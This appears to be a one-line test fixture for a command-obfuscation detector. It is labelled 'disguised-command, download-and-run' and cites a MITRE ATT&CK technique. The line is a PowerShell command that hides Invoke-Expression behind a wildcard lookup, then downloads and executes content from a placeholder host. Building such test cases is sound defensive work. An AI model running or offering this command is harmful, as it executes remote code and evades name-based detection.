# expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
& (Get-Command *ke-Ex*) (iwr http://files.example.invalid/stage -UseBasicParsing).Content
